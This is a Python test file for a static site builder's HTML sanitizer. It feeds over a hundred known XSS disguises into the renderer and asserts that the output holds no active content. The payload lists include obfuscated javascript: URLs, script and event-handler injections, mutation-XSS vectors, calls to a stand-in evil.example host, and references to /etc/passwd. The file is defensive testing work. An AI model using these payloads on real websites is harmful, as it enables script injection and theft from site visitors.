"""No source brings anything active onto a page (FAULTS rows 22, 23 and 25): known disguises, and random soup."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from site_builder import readers
from site_builder.diagnostics import Span
from site_builder.ids import SourcePath
from site_builder.render.body import render_body

ELEMENTS = {
    *("p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "hr", "pre", "br", "div"),
    *("table", "caption", "thead", "tbody", "tfoot", "tr", "td", "th", "figure", "figcaption", "details", "summary"),
    *("a", "img", "span", "button", "em", "strong", "code", "s", "sub", "sup", "u", "mark", "q", "cite", "abbr", "kbd"),
    *("samp", "var", "small", "ins", "del", "i", "b", "dfn", "bdi", "time"),
}
ATTRIBUTES = {
    *("href", "src", "alt", "title", "id", "class", "lang", "dir", "loading", "role", "aria-label", "tabindex"),
    *("popovertarget", "popover", "colspan", "rowspan", "scope", "start", "type", "reversed", "value", "datetime"),
}
SCHEMES = {"http", "https", "mailto", "tel", "ftp"}

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "javascript\t:alert(1)",
    "javascript :alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript&amp;colon;alert(1)",
    "javascript%3Aalert(1)",
    "javascript:%61lert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script>*/alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "blob:https://a.example/x",
    "file:///etc/passwd",
    "view-source:http://a.example/",
    "intent://x#Intent;end",
    "jar:http://a.example!/x",
    "feed:javascript:alert(1)",
    "x:y",
    "\u200bjavascript:alert(1)",
    "ｊavascript:alert(1)",
    "javascript：alert(1)",
    "\u2028javascript:alert(1)",
    "\xa0javascript:alert(1)",
    "\\javascript:alert(1)",
    "/\\evil.example/",
    "?javascript:alert(1)",
    "#\"onclick=alert(1)",
    "'onclick='alert(1)",
    '"onclick="alert(1)',
    "`onclick=alert(1)",
]  # fmt: skip

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x on\nerror=alert(1)>",
    '<img src="x` `onerror=alert(1)">',
    "<img src=x style='background:url(javascript:alert(1))'>",
    "<img srcset='//evil.example/x 1x' src=https://evil.example/pixel.gif>",
    "<p style='position:fixed' onmouseover=alert(1)>x",
    "<b onclick=alert(1) tabindex=0 autofocus onfocus=alert(2)>x</b>",
    "<a href=x onclick=alert(1) target=_blank ping=//evil.example/ download>x</a>",
    "<a href='x' xlink:href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<iframe src=javascript:alert(1) srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<applet code=x></applet><param name=src value=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=javascript:alert(1)//><a href=x>x</a>",
    "<link rel=stylesheet href=javascript:alert(1)><link rel=import href=x>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)></slot><x-evil onclick=alert(1) is=script>x</x-evil>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a name=getElementById id=cookie>x</a><img name=body src=x>",
    "<p id=text>x</p><p id=n1>y</p><a id='x\" onclick=alert(1) \"'>z</a>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<ol start='1\" onclick=alert(1)' type='\"><script>'><li value='\"x'>x</ol>",
    "<td colspan='2\" onclick=alert(1)'>x<th scope='\"><script>'>y",
    "<span lang='\"><script>alert(1)</script>' dir='\" onclick=x'>x</span>",
    "<pre><code class='language-\" onclick=alert(1)'>x</code></pre>",
    "<time datetime='\"><img src=x onerror=alert(1)>'>x</time>",
    "<img src='a.png' alt='\"><script>alert(1)</script>' title='\" onerror=\"alert(1)'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e \\u003cscript\\u003e",
    "{{ config }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7}",
    "```\" onclick=alert(1)\nx\n```",
    "```x\"><script>alert(1)</script>\nx\n```",
    "[x](<javascript:alert(1)>) [y](<http://a.example/\" onclick=\"alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    "[x](http://a.example/ '\" onclick=\"alert(1)') ![\"><script>alert(1)</script>](a.png)",
    "<javascript:alert(1)> <https://a.example/\"onclick=alert(1)>",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: <script>alert(1)</script>",
    "[[\"><script>alert(1)</script>]] [[x|<img src=x onerror=alert(1)>]]",
    "| <script>alert(1)</script> |\n|:-\"-:|\n| x |",
    "a `</code><script>alert(1)</script>` b",
    "<!-- pb \"><script>alert(1)</script> --> text",
    "<b <script>alert(1)</script>>x</b>",
    "<a href='http://a.example/'><a href='javascript:alert(1)'>x</a></a>",
    "<button popovertarget=n1 onclick=alert(1)>x</button>",
    "*<b onclick=alert(1)>x*</b> [<i onclick=alert(1)>y](z)</i>",
    "\x00<script\x00>alert(1)</script\x00>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x00script>alert(1)</script>",
]  # fmt: skip


def scheme_of(address: str) -> str:
    """The scheme a browser sees: outer controls and blanks and all tabs and line breaks do not count."""
    text = re.sub("[\t\n\r]", "", address.strip("".join(map(chr, range(33)))))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", text)
    return match[1].lower() if match else ""


class Second(HTMLParser):
    """Another parser's opinion: the names of elements and attributes it sees."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.named: set[str] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.named.update(name for name, _ in attrs)


def assert_harmless(html: str) -> None:
    second = Second(html)
    assert second.seen <= ELEMENTS, second.seen - ELEMENTS
    assert second.named <= ATTRIBUTES, second.named - ATTRIBUTES
    root = etree.fromstring(f"<body>{html}".encode(), etree.HTMLParser(encoding="utf-8"))
    ids: list[str] = []
    for element in root.iter(etree.Element):
        if element.tag in ("html", "body"):
            continue
        assert element.tag in ELEMENTS
        assert set(element.keys()) <= ATTRIBUTES
        for name in ("href", "src"):
            if name in element.keys():  # noqa: SIM118
                assert scheme_of(element.get(name)) in SCHEMES | {""}, element.get(name)
        if element.tag == "img":
            assert not re.match(r"[a-z]+:|[/\\]{2}", element.get("src"), re.I), "an image of another site"
        if element.tag == "a":
            assert not element.xpath("ancestor::a | ancestor::button"), "a link in a link"
        ids += [element.get("id")] if element.get("id") else []
    assert len(ids) == len(set(ids))
    assert all(re.match(r"x-|n\d+r?\Z", name) for name in ids), "an id of the source without its prefix"


def rendered(reader: str, source: str) -> str:
    parsed = readers.get(reader).read(source, Span(SourcePath("a"), 1, 1))  # type: ignore[arg-type]
    return render_body(parsed.body)


def test_there_are_more_than_sixty_disguises():
    assert len(set(ADDRESSES)) + len(set(MARKUP)) > 120


@pytest.mark.parametrize("reader", ["markdown", "html", "text"])
@pytest.mark.parametrize("payload", MARKUP)
def test_markup_stays_harmless(reader, payload):
    for source in (payload, f"words {payload} words", f"> - {payload}", f"<div>\n{payload}\n</div>", f"<b>{payload}"):
        assert_harmless(rendered(reader, source))


@pytest.mark.parametrize("reader", ["markdown", "html"])
@pytest.mark.parametrize("address", ADDRESSES)
def test_addresses_stay_harmless(reader, address):
    quoted = address.replace("'", "&#39;")
    sources = [f"<a href='{quoted}'>x</a> <img src='{quoted}' alt=y>", f"<a href={address}>x</a>"]
    if reader == "markdown":
        sources += [f"[x]({address})", f"[x](<{address}>)", f"![x]({address})", f"<{address}>"]
        sources += [f"[x]\n\n[x]: {address}", f"[[{address}]]", f"[[x#{address}|y]]"]
    for source in sources:
        html = rendered(reader, source)
        assert_harmless(html)


def test_what_was_removed_is_counted_in_one_warning(read):
    source = "a <script>x</script> <script>y</script> <b onclick=z>b</b> [c](javascript:d) <iframe src=e></iframe>"
    (finding,) = read("markdown", source).findings
    assert (finding.code, finding.severity.value) == ("TEXT001", "warning")
    assert "<script> (2)" in finding.message
    assert "onclick= (1)" in finding.message
    assert "javascript: address (1)" in finding.message
    assert "<iframe> (1)" in finding.message


def test_the_text_around_what_was_removed_is_rendered(html):
    assert html("markdown", "before <script>x</script>after") == "<p>before after</p>"
    assert html("html", "<p>before<script>x</script> after</p>") == "<p>before after</p>"


PIECES = [
    *MARKUP,
    *("<p>", "</p>", "<b>", "</b>", "<i>", "</i>", "<a href=x>", "</a>", "<table>", "<tr>", "<td>", "</table>"),
    *("<ul>", "<li>", "</ul>", "<pre>", "</pre>", "<h1>", "</h1>", "<details>", "<summary>", "<dl><dt>", "<dd>"),
    *("*", "**", "`", "[", "](", ")", "[[", "]]", "|", "\n", "\n\n", "> ", "- ", "1. ", "[^1]", "\n[^1]: ", "    "),
    *("<!-- ", " -->", "&", "<", "x", "<!-- excerpt -->", "<!-- pb 4 -->", "<a id=q>", "</div>", "<div lang=he>"),
    *("~~", "\\", "  \n", "<img src=a.png alt=b>", "![i](j.png)", "<br>", "<hr>", "---\n", "# ", "```\n", "\u202e"),
    "<span lang=ar>",
]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join), st.sampled_from(["markdown", "html"]))
@settings(max_examples=400, deadline=None)
def test_random_soup_stays_harmless(source, reader):
    assert_harmless(rendered(reader, source))
